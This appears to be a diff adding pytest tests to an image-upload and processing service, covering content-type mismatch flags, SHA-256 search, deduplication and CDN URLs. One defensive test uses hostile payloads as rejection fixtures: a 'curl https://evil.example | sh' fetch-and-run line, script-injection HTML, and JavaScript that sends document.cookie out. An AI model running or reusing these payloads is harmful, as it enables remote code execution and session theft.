@@ -293,3 +293,88 @@ def test_outputs_can_be_encrypted_with_a_kms_key(client: Client, aws: Aws, monke
     deliver(client, aws, image_id, images.jpeg(400, 300))
     head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{image_id}/web.webp")
     assert head["ServerSideEncryption"] == "aws:kms" and key_id in head["SSEKMSKeyId"]
+
+
+def upload_as(client: Client, aws: Aws, data: bytes, content_type: str, profile: str | None = None) -> str:
+    body = {"content_type": content_type, **({"profile": profile} if profile else {})}
+    response = client.http.post("/uploads", headers={"Content-Type": "application/json"}, body=json.dumps(body).encode())
+    image_id = str(json.loads(response.body)["id"])
+    deliver(client, aws, image_id, data)
+    return image_id
+
+
+def test_an_allowed_format_declared_as_another_is_processed_and_flagged(client: Client, aws: Aws) -> None:
+    image_id = upload_as(client, aws, images.png(400, 300), "image/jpeg")
+    done = record(client, image_id)
+    assert done["status"] == "done" and done["type_mismatch"] is True
+    assert done["declared_content_type"] == "image/jpeg" and done["original"]["format"] == "PNG"
+    head = aws.s3.head_object(Bucket=ENV["OUTPUT_BUCKET"], Key=done["outputs"]["web"]["key"])
+    assert head["ContentType"] == "image/webp"
+    honest = record(client, upload_as(client, aws, images.png(400, 300), "image/png"))
+    assert honest["type_mismatch"] is False
+
+
+@pytest.mark.parametrize("data", [
+    hostile.svg_with_script(),
+    b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
+    b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
+    b"#!/bin/sh\ncurl https://evil.example | sh\n",
+    b"(function(){fetch('/steal?c='+document.cookie)})();",
+], ids=["svg", "html", "pdf", "shell", "javascript"])
+def test_documents_disguised_as_images_fail_as_unsupported_format(client: Client, aws: Aws, data: bytes) -> None:
+    failed = record(client, upload_as(client, aws, data, "image/webp"))
+    assert failed["status"] == "failed" and failed["error"]["code"] == "unsupported_format"
+    assert aws.output_keys() == []
+
+
+def test_content_hash_is_recorded_and_searchable(client: Client, aws: Aws) -> None:
+    import hashlib
+
+    data = images.jpeg(500, 400)
+    first, second = upload_as(client, aws, data, "image/jpeg"), upload_as(client, aws, data, "image/jpeg")
+    other = upload_as(client, aws, images.jpeg(501, 400), "image/jpeg")
+    digest = hashlib.sha256(data).hexdigest()
+    assert record(client, first)["sha256"] == digest
+    found = json.loads(client.http.get(f"/images?sha256={digest}").body)["items"]
+    assert [item["id"] for item in found] == [second, first]
+    assert other not in {item["id"] for item in found}
+    assert json.loads(client.http.get(f"/images?sha256={digest}&status=failed").body)["items"] == []
+    assert client.http.get("/images?sha256=xyz").status_code == 400
+
+
+def test_dedupe_copies_outputs_server_side(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DEDUPE", "true")
+    services.reset()
+    data = images.jpeg(900, 600)
+    first = upload_as(client, aws, data, "image/jpeg")
+    calls: dict[str, int] = {}
+    for operation in ("PutObject", "CopyObject"):
+        count_calls(services.s3(), operation, calls)
+    second = upload_as(client, aws, data, "image/jpeg")
+    assert calls == {"CopyObject": 2}  # no PutObject: nothing was decoded or encoded
+    twin, copy = record(client, first), record(client, second)
+    assert copy["status"] == "done" and copy["deduplicated_from"] == first
+    assert {n: (o["width"], o["bytes"]) for n, o in copy["outputs"].items()} == {
+        n: (o["width"], o["bytes"]) for n, o in twin["outputs"].items()}
+    assert copy["outputs"]["web"]["key"] == f"processed/{second}/web.webp"
+    copied = aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{second}/web.webp")
+    assert copied["ContentType"] == "image/webp" and copied["Body"].read() == aws.s3.get_object(
+        Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{first}/web.webp")["Body"].read()
+    other_profile = record(client, upload_as(client, aws, data, "image/jpeg", profile="thumbnail200"))
+    assert other_profile.get("deduplicated_from") is None
+    messages = aws.notifications()
+    assert [m["id"] for m in messages].count(second) == 1
+    assert [m for m in messages if m["id"] == second][0]["deduplicated_from"] == first
+
+
+def test_stable_output_urls_and_markup(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
+    image_id = upload_as(client, aws, images.jpeg(3000, 2000), "image/jpeg")
+    signed = record(client, image_id)
+    assert "X-Amz-Signature" in signed["outputs"]["web"]["url"]
+    monkeypatch.setenv("OUTPUT_BASE_URL", "https://cdn.example.com/")
+    services.reset()
+    first, again = record(client, image_id), record(client, image_id)
+    web, thumb = first["outputs"]["web"], first["outputs"]["thumb"]
+    assert web["url"] == f"https://cdn.example.com/processed/{image_id}/web.webp" == again["outputs"]["web"]["url"]
+    assert first["markup"] == {"width": 2048, "height": 1365,
+                               "srcset": {"webp": f"{thumb['url']} 320w, {web['url']} 2048w"}}
